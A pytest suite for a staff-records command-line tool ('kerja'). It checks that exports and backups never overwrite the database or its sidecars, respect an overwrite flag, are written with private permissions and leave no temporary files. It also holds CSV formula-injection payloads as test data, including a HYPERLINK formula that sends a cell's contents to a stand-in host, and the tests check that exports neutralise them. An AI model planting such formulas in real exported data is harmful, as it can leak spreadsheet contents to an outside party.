"""Every file kerja writes: never the store, its sidecars or backups, nor a folder; an existing
file only with --timpa; 0600 whatever the umask; formula-safe; no temporary files left behind."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from helpers import db_bytes
from hostile_data import is_store, leftovers, load_staff, mode

pytestmark = pytest.mark.hostile

RECAP = ["rekap", "bulanan", "--bulan", "2021-02"]
ROSTER = ["jadwal", "ekspor", "--mulai", "2021-02-01", "--sampai", "2021-02-05"]


@pytest.fixture
def staffed(kerja, store, tmp_path):
    load_staff(kerja, tmp_path)
    return store


def writers(target: Path) -> list[list[str]]:
    """Every command that writes a file the user names."""
    return [
        *([*RECAP, "--format", f, "--keluar", str(target)] for f in ("csv", "json", "xlsx", "pdf")),
        *([*ROSTER, "--format", f, "--keluar", str(target)] for f in ("csv", "json", "xlsx")),
    ]


@pytest.mark.parametrize("sidecar", ["", "-wal", "-shm"])
def test_no_export_writes_over_the_store_or_its_sidecars(kerja, staffed, sidecar):
    before = db_bytes(staffed)
    target = Path(str(staffed) + sidecar)
    for args in writers(target):
        r = kerja(*args, code=1)
        assert "basis data" in r.stderr, args
    assert is_store(staffed) and db_bytes(staffed) == before


def test_error_file_never_the_store(kerja, staffed, tmp_path):
    before = db_bytes(staffed)
    bad = tmp_path / "baru.csv"
    bad.write_text("NIP;Nama;Unit\n123;Orang Salah;Dinas Uji\n198504042010011099;Orang Baru;Dinas Uji\n")
    r = kerja("pegawai", "impor", bad, "--lewati-galat", staffed, code=1)
    assert "basis data" in r.stderr
    # Refused before anything was imported, the good row included.
    assert is_store(staffed) and db_bytes(staffed) == before


def test_no_export_writes_over_a_backup(kerja, staffed, tmp_path):
    kerja("cadangkan", tmp_path / "salinan.db")
    copy = (tmp_path / "salinan.db").read_bytes()
    for args in writers(tmp_path / "salinan.db"):
        kerja(*args, "--timpa", code=1)
    assert (tmp_path / "salinan.db").read_bytes() == copy
    migration_backup = Path(str(staffed) + ".bak-v1")
    kerja(*RECAP, "--format", "csv", "--keluar", migration_backup, code=1)
    assert not migration_backup.exists()


def test_existing_file_only_with_timpa(kerja, staffed, tmp_path):
    target = tmp_path / "punya-saya.txt"
    for args in writers(target):
        target.write_text("jangan hilang")
        r = kerja(*args, code=1)
        assert "--timpa" in r.stderr and target.read_text() == "jangan hilang", args
        kerja(*args, "--timpa")
        assert target.read_text(errors="replace") != "jangan hilang", args


def test_error_file_only_with_timpa(kerja, staffed, tmp_path):
    bad = tmp_path / "baru.csv"
    bad.write_text("NIP;Nama;Unit\n123;Orang Salah;Dinas Uji\n")
    target = tmp_path / "salah.csv"
    target.write_text("catatan lama")
    assert "--timpa" in kerja("pegawai", "impor", bad, "--lewati-galat", target, code=1).stderr
    assert target.read_text() == "catatan lama"
    kerja("pegawai", "impor", bad, "--lewati-galat", target, "--timpa")
    assert "Orang Salah" in target.read_text(encoding="utf-8-sig")


def test_a_folder_is_not_an_output_file(kerja, staffed, tmp_path):
    folder = tmp_path / "rekap"
    folder.mkdir()
    for args in writers(folder):
        r = kerja(*args, code=1)
        assert "folder" in r.stderr and "kesalahan internal" not in r.stderr, args
    assert "folder" in kerja("cadangkan", folder, code=1).stderr
    assert list(folder.iterdir()) == [] and leftovers(tmp_path) == []


def test_missing_folder_is_named(kerja, staffed, tmp_path):
    for args in [*writers(tmp_path / "tidak-ada" / "x.out"), ["cadangkan", str(tmp_path / "tidak-ada/k.db")]]:
        r = kerja(*args, code=1)
        assert "tidak-ada" in r.stderr and "mkdir" in r.stderr, args
    assert not (tmp_path / "tidak-ada").exists()


def test_exports_are_private_under_umask_000(kerja, staffed, tmp_path):
    old = os.umask(0)
    try:
        for i, args in enumerate(writers(tmp_path / "out")):
            target = tmp_path / f"keluar-{i}"
            args[-1] = str(target)
            kerja(*args)
            assert mode(target) == 0o600, args
        # The default names of xlsx/pdf (no --keluar) and the error file of an import.
        kerja(*RECAP, "--format", "xlsx")
        assert mode(tmp_path / "rekap-2021-02.xlsx") == 0o600
        bad = tmp_path / "baru.csv"
        bad.write_text("NIP;Nama;Unit\n123;Orang Salah;Dinas Uji\n")
        kerja("pegawai", "impor", bad, "--lewati-galat", tmp_path / "salah.csv")
        assert mode(tmp_path / "salah.csv") == 0o600
        kerja("cadangkan", tmp_path / "cadangan.db")
        assert mode(tmp_path / "cadangan.db") == 0o600
    finally:
        os.umask(old)


def test_error_file_is_formula_safe(kerja, staffed, tmp_path):
    bad = tmp_path / "baru.csv"
    cells = ['=HYPERLINK("http://x.test/?"&A1;"klik")', "=1+1", "-2+3", "@x", "+1"]
    rows = "\n".join(f'12{i};"{c.replace(chr(34), chr(34) * 2)}";Dinas Uji' for i, c in enumerate(cells))
    bad.write_text("NIP;Nama;Unit\n" + rows + "\n")
    kerja("pegawai", "impor", bad, "--lewati-galat", tmp_path / "salah.csv")
    import csv

    with open(tmp_path / "salah.csv", encoding="utf-8-sig", newline="") as f:
        written = [c for row in csv.reader(f, delimiter=";") for c in row]
    for c in cells:
        assert c not in written and "'" + c in written, c
    # No cell of the error file starts a formula.
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@")]


def test_killed_write_leaves_nothing_on_the_next_run(kerja, staffed, tmp_path):
    """A writer killed mid-file (SIGKILL: no clean-up of its own) leaves its temporary file; the
    next write to that target removes it, and the target itself was never touched."""
    target = tmp_path / "cadangan.db"
    code = (
        "import sys, time\n"
        "from pathlib import Path\n"
        "from kerja.io.atomic import write_atomic\n"
        "def slow(tmp):\n"
        "    tmp.write_bytes(b'x' * 100000)\n"
        "    print('mulai', flush=True)\n"
        "    time.sleep(60)\n"
        f"write_atomic(Path({str(target)!r}), slow)\n"
    )
    p = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    assert p.stdout is not None and p.stdout.readline().strip() == "mulai"
    p.send_signal(signal.SIGKILL)
    p.wait()
    assert leftovers(tmp_path) and not target.exists()
    kerja("cadangkan", target)
    assert is_store(target) and leftovers(tmp_path) == []


def test_failed_write_leaves_nothing(kerja, staffed, tmp_path, monkeypatch):
    """An export that fails half-way (here: the disk fills up) leaves no temporary file and the
    old target as it was."""
    from kerja.io import export

    target = tmp_path / "rekap.csv"
    target.write_text("lama")
    real = export.write_csv

    def full_disk(*a, **k):
        real(*a, **k)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "write_csv", full_disk)
    kerja(*RECAP, "--format", "csv", "--keluar", target, "--timpa", code=1)
    assert target.read_text() == "lama" and leftovers(tmp_path) == []


@pytest.mark.parametrize("sidecar", ["", "-wal", "-shm", "-journal", ".bak-v1"])
def test_backup_never_onto_the_store_or_its_sidecars(kerja, staffed, sidecar):
    """`kerja cadangkan` onto the store or a file of it: refused, --timpa or not (the -wal of a
    closed store need not exist: refused by name)."""
    before = db_bytes(staffed)
    target = Path(str(staffed) + sidecar)
    for extra in ([], ["--timpa"]):
        r = kerja("cadangkan", target, *extra, code=1)
        assert "basis data" in r.stderr or "sudah ada" in r.stderr, (sidecar, extra, r.stderr)
    assert is_store(staffed) and db_bytes(staffed) == before
    assert not Path(str(staffed) + ".bak-v1").exists()


def test_links_to_the_store_are_the_store(kerja, staffed, tmp_path):
    """A symbolic or a hard link to the store is the store: no export, error file or backup
    replaces it, --timpa or not."""
    before = db_bytes(staffed)
    soft, hard = tmp_path / "tautan.db", tmp_path / "keras.db"
    soft.symlink_to(staffed)
    os.link(staffed, hard)
    bad = tmp_path / "baru.csv"
    bad.write_text("NIP;Nama;Unit\n123;Orang Salah;Dinas Uji\n")
    for link in (soft, hard):
        for args in writers(link):
            assert "basis data" in kerja(*args, "--timpa", code=1).stderr, args
        assert "basis data" in kerja("cadangkan", link, "--timpa", code=1).stderr
        r = kerja("pegawai", "impor", bad, "--lewati-galat", link, "--timpa", code=1)
        assert "basis data" in r.stderr
    assert is_store(staffed) and db_bytes(staffed) == before and soft.is_symlink()


EVIL = ['=HYPERLINK("http://x.test/?"&A1;"klik")', "=1+1", "-2+3", "@x", "+1"]


def test_exports_neutralise_formula_cells(kerja, store, tmp_path):
    """Names, posts and units that a spreadsheet would run as formulas: every CSV and XLSX that
    holds them (recap, roster) has them as text, with the leading apostrophe."""
    import csv

    from openpyxl import load_workbook

    nips = [f"1985040420100110{i + 1:02d}" for i in range(len(EVIL))]
    lines = ["NIP;Nama;Jabatan;Unit;TPP"]
    for nip, evil in zip(nips, EVIL, strict=True):

        def q(text: str) -> str:
            return '"' + text.replace('"', '""') + '"'

        lines.append(f"{nip};{q(evil)};{q(evil)};{q('Dinas Uji > ' + evil)};3000000")
    f = tmp_path / "jahat.csv"
    f.write_text("\n".join(lines) + "\n", encoding="utf-8")
    kerja("pegawai", "impor", f)
    from roster_fixture import KUKAR

    kerja("kebijakan", "tambah", KUKAR)
    kerja("jadwal", "buat", "--mulai", "2021-02-01", "--sampai", "2021-02-05", code=None)

    cells: dict[str, list[str]] = {}
    for name, args in (
        ("rekap.csv", [*RECAP, "--format", "csv"]),
        ("jadwal.csv", [*ROSTER, "--format", "csv"]),
    ):
        kerja(*args, "--keluar", tmp_path / name)
        with open(tmp_path / name, encoding="utf-8-sig", newline="") as fh:
            sample = fh.read(4096)
            fh.seek(0)
            delim = ";" if sample.count(";") > sample.count(",") else ","
            cells[name] = [c for row in csv.reader(fh, delimiter=delim) for c in row]
    for name, args in (
        ("rekap.xlsx", [*RECAP, "--format", "xlsx"]),
        ("jadwal.xlsx", [*ROSTER, "--format", "xlsx"]),
    ):
        kerja(*args, "--keluar", tmp_path / name)
        wb = load_workbook(tmp_path / name)
        cells[name] = [
            c
            for ws in wb.worksheets
            for row in ws.iter_rows(values_only=True)
            for c in row
            if isinstance(c, str)
        ]
    for name, written in cells.items():
        assert "'" + EVIL[1] in written or any("'=1+1" in c for c in written), (name, written[:40])
        for evil in EVIL:
            # The value never stands alone as a cell, and no text cell starts a formula with it.
            assert evil not in written, (name, evil)
            assert not [c for c in written if c.startswith(evil)], (name, evil)
